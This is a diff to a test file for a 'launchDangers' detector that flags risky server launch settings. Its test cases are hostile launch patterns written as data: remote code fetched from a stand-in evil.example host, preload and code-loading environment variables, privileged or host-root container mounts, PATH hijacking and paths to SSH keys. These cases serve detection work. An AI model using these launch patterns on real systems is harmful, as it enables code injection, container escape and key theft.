@@ -32,6 +32,25 @@ describe('launchDangers', () => {
     ['shell', 'env', 'sh', '-c', 'node server.js'],
     ['loaderVariable', 'env', 'LD_PRELOAD=/tmp/evil.so', 'node', 'server.js'],
     ['loaderVariable', '/usr/bin/env', 'NODE_OPTIONS=--require=/tmp/evil.js', 'server'],
+    ['shell', 'bash', '-l', '-c', 'node server.js'],
+    ['shell', 'bash', '--login', '-c', 'node server.js'],
+    ['shell', 'bash', '-x', '-o', 'pipefail', '-c', 'node server.js'],
+    ['shell', 'npx', '-c', 'node server.js'],
+    ['shell', 'find', '/tmp', '-exec', 'node', 'x.js', ';'],
+    ['inlineCode', 'node', '-r', 'fs', '-e', '1'],
+    ['inlineCode', 'node', '--env-file', 'x', '-e', '1'],
+    ['inlineCode', 'node', '--import', 'data:text/javascript,1', 'server.js'],
+    ['inlineCode', 'node', '--import=data:text/javascript,1', 'server.js'],
+    ['inlineCode', 'python3', '-W', 'ignore', '-c', '1'],
+    ['inlineCode', 'env', '-S', `node -e '1'`],
+    ['inlineCode', 'python3', '-I', '-O', '-W', '-c', '1'],
+    ['inlineCode', 'perl', '-X', '-C', '-e', '1'],
+    ['inlineCode', 'env', '-Snode -e 1'],
+    ['unpinnedPackage', 'deno', 'run', '-A', 'https://evil.example/x.ts'],
+    ['superuser', 'docker', 'run', '--privileged', 'image'],
+    ['superuser', 'docker', 'run', '-v', '/:/h', 'image'],
+    ['superuser', 'podman', 'run', '--mount', 'type=bind,source=/,target=/h', 'image'],
+    ['loaderVariable', 'env', 'PATH=/tmp', 'server'],
     ['homeOrKeys', 'server', '~/'],
     ['homeOrKeys', 'server', '/home/me/.ssh/id_ed25519'],
     ['hiddenCharacters', 'server', 'a\u202eb'],
@@ -47,16 +66,29 @@ describe('launchDangers', () => {
     expect(stdio('node', 'server.js', '-e', 'production')).toEqual([]);
     expect(stdio('python3', '-m', 'server', '-c', 'config.toml')).toEqual([]);
     expect(stdio('env', 'LANG=C', 'server')).toEqual([]);
+    expect(stdio('bash', 'start.sh', '-c', 'config')).toEqual([]);
+    expect(stdio('node', '--env-file', '.env', '-r', 'dotenv/config', 'server.js', '-e', 'x')).toEqual([]);
+    expect(stdio('python3', '-O', 'server.py', '-c', 'config')).toEqual([]);
+    expect(stdio('docker', 'run', '-i', '--rm', '-v', '/srv/data:/data', 'image')).toEqual([]);
+    expect(stdio('deno', 'run', '-A', 'server.ts')).toEqual([]);
     expect(launchDangers({ kind: 'http', url: 'http://127.0.0.1:3000/mcp', headers: {} })).toEqual([]);
   });
 
-  it.each(['LD_PRELOAD', 'DYLD_INSERT_LIBRARIES', 'NODE_OPTIONS', 'PYTHONSTARTUP', 'BASH_ENV', 'ld_preload'])(
-    'finds the variable %s, which has other code loaded',
-    (name) => {
-      const launch = { kind: 'stdio' as const, command: 'server', args: [], env: { [name]: 'x' } };
-      expect(launchDangers(launch)).toEqual(['loaderVariable']);
-    },
-  );
+  it.each([
+    'LD_PRELOAD',
+    'DYLD_INSERT_LIBRARIES',
+    'NODE_OPTIONS',
+    'PYTHONSTARTUP',
+    'BASH_ENV',
+    'ld_preload',
+    'PATH',
+    'npm_config_registry',
+    'JDK_JAVA_OPTIONS',
+    'DOTNET_STARTUP_HOOKS',
+  ])('finds the variable %s, which has other code loaded', (name) => {
+    const launch = { kind: 'stdio' as const, command: 'server', args: [], env: { [name]: 'x' } };
+    expect(launchDangers(launch)).toEqual(['loaderVariable']);
+  });
 
   it('finds an address that is reached in clear', () => {
     expect(launchDangers({ kind: 'http', url: 'http://example.test/mcp', headers: {} })).toEqual(['plainHttp']);
